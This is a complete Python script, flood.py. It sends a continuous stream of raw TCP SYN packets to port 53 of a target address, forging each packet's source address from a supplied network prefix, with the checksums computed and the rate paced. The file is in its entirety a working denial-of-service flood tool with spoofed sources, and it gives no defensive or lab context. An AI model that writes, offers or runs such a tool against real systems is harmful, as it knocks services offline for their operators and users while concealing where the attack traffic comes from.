"""flood.py ADDRESS PREFIX SECOND: SYN after SYN from addresses of PREFIX (two numbers, "10.9"), SECOND of them a second, until it is ended."""
import random
import socket
import struct
import sys
import time

BATCH_SECONDS = 0.005


def checksum(data):
    n = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    n = (n & 0xffff) + (n >> 16)
    return ~(n + (n >> 16)) & 0xffff


def syn(source, target):
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 53, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    check = checksum(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target
    return ip + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def main(address, prefix, rate):
    target, net = socket.inet_aton(address), bytes(int(x) for x in prefix.split("."))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = [syn(net + bytes([random.randrange(1, 255), random.randrange(1, 255)]), target) for _ in range(5000)]
    i, due = 0, time.monotonic()
    while True:
        for _ in range(int(int(rate) * BATCH_SECONDS)):
            s.sendto(packets[i % len(packets)], (address, 0))
            i += 1
        due += BATCH_SECONDS
        time.sleep(max(0, due - time.monotonic()))


main(*sys.argv[1:])
